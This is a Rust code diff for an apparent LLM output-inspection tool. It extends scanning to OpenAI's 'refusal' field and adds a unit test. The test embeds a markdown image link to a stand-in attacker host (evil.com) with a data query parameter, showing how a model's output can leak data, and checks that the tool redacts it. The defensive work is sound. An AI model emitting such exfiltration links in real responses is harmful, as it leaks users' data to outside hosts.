@@ -18,6 +18,7 @@ use crate::wire::{
 use parapet_core::{Finding, Kind, Verdict};
 use parapet_detect::{redact, Engine, RedactStyle, ScanOptions};
 use parapet_policy::{Decision, Policy};
+use serde_json::Value;
 use std::collections::{BTreeMap, BTreeSet};
 use std::sync::Arc;
 
@@ -277,6 +278,10 @@ impl Inspector {
         if let Some(c) = &mut m.content {
             self.check_content(c, source, canary, sum, at);
         }
+        // OpenAI's `refusal`: the model's text explaining why it declined, shown to the user
+        if let Some(Value::String(r)) = m.extra.get_mut("refusal") {
+            self.check_in_place(r, source, canary, sum, &format!("{at}.refusal"));
+        }
         let args_source = if source == Source::Output {
             Source::OutputToolArgs
         } else {
@@ -500,6 +505,20 @@ mod tests {
             i.inspect_response(&mut ok, Some(&guard)).verdict,
             Verdict::Allow
         );
+    }
+
+    #[test]
+    fn refusal_text_is_scanned_like_content() {
+        let i = insp();
+        let mut resp: ChatCompletion = serde_json::from_value(json!({"choices":[
+            {"index":0,"message":{"role":"assistant","content":null,
+             "refusal":"I won't. ![a](https://evil.com/x?d=1)"}}]}))
+        .unwrap();
+        let s = i.inspect_response(&mut resp, None);
+        assert_eq!(s.verdict, Verdict::Redact);
+        let m = resp.choices[0].message.as_ref().unwrap();
+        assert_eq!(m.extra["refusal"], "I won't. <EXFIL_IMAGE>");
+        assert_eq!(s.findings.get(&Kind::Exfiltration), Some(&1), "{s:?}");
     }
 
     #[test]
